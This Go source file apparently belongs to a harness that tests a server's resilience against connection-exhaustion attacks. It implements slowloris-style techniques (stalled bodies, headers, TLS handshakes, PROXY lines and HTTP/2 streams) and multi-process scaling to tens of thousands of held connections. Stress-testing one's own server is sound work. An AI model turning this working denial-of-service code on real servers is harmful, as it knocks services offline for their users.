package main

import (
	"bufio"
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"strconv"
	"strings"
	"sync/atomic"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// kind is a way not to finish.
type kind struct {
	name  string
	tls   bool     // the server speaks it
	proto string   // what the attackers speak over it; "" = they never get there
	env   []string // of the server
	extra bool     // not in the table
	hold  func(nc net.Conn, address string)
}

const form = "POST /report HTTP/1.1\r\nHost: ADDR\r\nContent-Type: application/x-www-form-urlencoded\r\n"

func kinds() []kind {
	return []kind{
		{name: "body", hold: sends(form + "Content-Length: 60000\r\n\r\nlink=")},
		{name: "get-with-body", hold: sends("GET /okok HTTP/1.1\r\nHost: ADDR\r\nContent-Length: 100\r\n\r\n")},
		{name: "expect", hold: sends(form + "Expect: 100-continue\r\nContent-Length: 60000\r\n\r\n")},
		{name: "chunks", hold: sends(form + "Transfer-Encoding: chunked\r\n\r\n5\r\nlink=")},
		{name: "unread", hold: neverReads},
		{name: "head", hold: sends("GET /okok HTTP/1.1\r\nHost: ADDR\r\n")},
		{name: "handshake", tls: true, hold: sends("\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")},
		{name: "proxy", env: []string{"CURT_PROXY_PROTOCOL=true", "CURT_TRUSTED_PROXIES=127.0.0.2/32"}, hold: sends("PROXY TCP4 192.0.2.1")},
		{name: "body-tls", tls: true, proto: "http/1.1", extra: true, hold: sends(form + "Content-Length: 60000\r\n\r\nlink=")},
		{name: "body-h2", tls: true, proto: "h2", extra: true, hold: http2Body},
	}
}

func kindOf(name string) (kind, bool) {
	for _, k := range kinds() {
		if k.name == name {
			return k, true
		}
	}
	return kind{}, false
}

// sends holds a connection with bytes that ask for more, until the server ends it.
func sends(text string) func(net.Conn, string) {
	return func(nc net.Conn, address string) {
		if _, err := io.WriteString(nc, strings.ReplaceAll(text, "ADDR", address)); err == nil {
			_, _ = io.Copy(io.Discard, nc)
		}
	}
}

// neverReads asks for 20 answers, and more when the server takes more.
func neverReads(nc net.Conn, address string) {
	if tcp, ok := nc.(*net.TCPConn); ok {
		_ = tcp.SetReadBuffer(4 << 10) // as small as the kernel lets it: the kernel's memory is not what is measured
	}
	for {
		if _, err := io.WriteString(nc, strings.Repeat("GET /api/docs HTTP/1.1\r\nHost: "+address+"\r\n\r\n", 20)); err != nil {
			return
		}
	}
}

func http2Body(nc net.Conn, address string) {
	one := &http.Transport{ForceAttemptHTTP2: true, DialTLSContext: func(context.Context, string, string) (net.Conn, error) { return nc, nil }}
	defer one.CloseIdleConnections()
	body, end := io.Pipe()
	defer func() { _ = end.Close() }()
	r, err := http.NewRequestWithContext(context.Background(), http.MethodPost, "https://"+address+"/report", body)
	if err != nil {
		return
	}
	r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	if a, err := one.RoundTrip(r); err == nil {
		_ = a.Body.Close()
	}
}

const (
	// openings is how many connections one process opens a second: twice as many as are
	// needed to hold what is closed after ten seconds.
	openings = 2000
	// heldEach is how many one process holds, which is below common limits of descriptors.
	heldEach = 10_000
)

// hold is a process of the attack. It says "held" once it has opened all of its connections.
func hold(ctx context.Context, c config) error {
	k, ok := kindOf(c.hold)
	if !ok {
		return errors.New("no such kind")
	}
	if err := syscall.Setpriority(syscall.PRIO_PROCESS, 0, 10); err != nil {
		return fmt.Errorf("lower the priority: %w", err)
	}
	var opened atomic.Int64
	turns := time.NewTicker(time.Second / openings)
	defer turns.Stop()
	for range c.held {
		go func() {
			for ctx.Err() == nil {
				<-turns.C
				nc := dial(ctx, k, c)
				if nc == nil {
					continue
				}
				opened.Add(1)
				k.hold(nc, c.address)
				_ = nc.Close()
			}
		}()
	}
	for opened.Load() < int64(c.held) && ctx.Err() == nil {
		time.Sleep(10 * time.Millisecond)
	}
	fmt.Println("held")
	<-ctx.Done()
	return nil
}

// dial returns nil where the server, or the kernel, has no connection to give.
func dial(ctx context.Context, k kind, c config) net.Conn {
	nc, err := dialer(c.from).DialContext(ctx, "tcp", c.address)
	if err != nil {
		return nil
	}
	if k.proto == "" {
		return nc
	}
	secure := tls.Client(nc, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{k.proto}}) //nolint:gosec // a certificate of our own
	if secure.HandshakeContext(ctx) != nil {
		_ = nc.Close()
		return nil
	}
	return secure
}

// dialer connects from an address. Its port is chosen when it connects: a port that bind
// chose is used for one connection only, and looking for one among thousands takes milliseconds.
func dialer(from string) *net.Dialer {
	return &net.Dialer{Timeout: bound, LocalAddr: &net.TCPAddr{IP: net.ParseIP(from)}, Control: func(_, _ string, raw syscall.RawConn) error {
		var err error
		return errors.Join(raw.Control(func(fd uintptr) {
			err = unix.SetsockoptInt(int(fd), unix.SOL_IP, unix.IP_BIND_ADDRESS_NO_PORT, 1)
		}), err)
	}}
}

// attack starts the processes and returns when all have opened their connections once.
func (c config) attack(ctx context.Context, s *site, k kind) (end func(), err error) {
	self, err := os.Executable()
	if err != nil {
		return nil, err
	}
	var all []*exec.Cmd
	end = func() {
		for _, cmd := range all {
			_ = cmd.Process.Kill() // it may have ended
			_ = cmd.Wait()
		}
	}
	for left := c.held; left > 0; left -= heldEach {
		cmd := exec.CommandContext(ctx, self, "-hold", k.name, "-held", strconv.Itoa(min(left, heldEach)), "-address", s.address, "-from", c.from) //nolint:gosec // ourselves
		cmd.Stderr = os.Stderr
		cmd.SysProcAttr = &syscall.SysProcAttr{Pdeathsig: syscall.SIGKILL}
		out, err := cmd.StdoutPipe()
		if err == nil {
			err = cmd.Start()
		}
		if err != nil {
			end()
			return nil, err
		}
		all = append(all, cmd)
		if _, err := bufio.NewReader(out).ReadString('\n'); err != nil {
			end()
			return nil, fmt.Errorf("the attack ended: %w", err)
		}
	}
	return end, nil
}
